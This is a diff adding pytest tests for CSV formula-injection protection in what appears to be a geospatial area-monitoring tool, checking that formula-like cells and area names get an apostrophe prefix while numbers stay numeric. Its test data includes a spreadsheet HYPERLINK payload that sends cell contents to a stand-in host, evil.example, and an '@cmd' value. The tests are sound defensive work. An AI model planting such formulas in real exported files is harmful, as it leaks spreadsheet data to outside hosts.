@@ -106,3 +106,36 @@ def test_write_csv_quotes_cells_and_leaves_none_empty(tmp_path):
         got = list(csv.reader(f))
     assert got == [["c1", "c2", "c3", "c4", "c5"], ["a,b", 'say "hi"', "two\nlines", "", "1.5"], ["plain", "", "x", "0", "-2"]]
     assert not [q for q in tmp_path.iterdir() if q.name != "t.csv"]  # no temporary file left
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tx", "\r=1")
+
+
+def test_write_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
+    path = write_csv(tmp_path / "t.csv", ["name", *FORMULAS[:1]], [[f, -2.5, 3, None] for f in FORMULAS])
+    raw = path.read_bytes().decode("utf-8")
+    with open(path, newline="", encoding="utf-8") as f:
+        header, *rows = list(csv.reader(f))
+    assert header == ["name", "'" + FORMULAS[0]]
+    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS]
+    # numbers are written as numbers: unquoted, no apostrophe, the minus sign kept
+    assert all(r[1:] == ["-2.5", "3", ""] for r in rows)
+    assert ",-2.5,3," in raw
+    # every cell a spreadsheet reads starts with a harmless character
+    cells = [c for r in [header, *rows] for c in r if c]
+    assert not [c for c in cells if c[0] in "=+@\t\r" or (c[0] == "-" and not c[1:2].isdigit())]
+
+
+def test_aoi_named_like_a_formula_reaches_the_csv_as_text(tmp_path):
+    p = make_mask_project(tmp_path, years=range(2017, 2019))
+    write_aois(p["aois"], names=(FORMULAS[0], "@cmd"))
+    s = run_monitor(load_config(p["config"]), runner=oracle_run_scene)
+    assert s.exit_code == 0
+    with open(tmp_path / "out" / "reports" / "yearly_areas.csv", newline="", encoding="utf-8") as f:
+        header = next(csv.reader(f))
+    assert header == ["year", "'" + FORMULAS[0], "'@cmd", "total_mapped_area"]
+    with open(tmp_path / "out" / "reports" / "changes.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert {r["area"] for r in rows} == {"'" + FORMULAS[0], "'@cmd", TOTAL}
+    # a negative change stays a number, not text with an apostrophe
+    assert any(r["change_ha"].startswith("-") and float(r["change_ha"]) < 0 for r in rows)
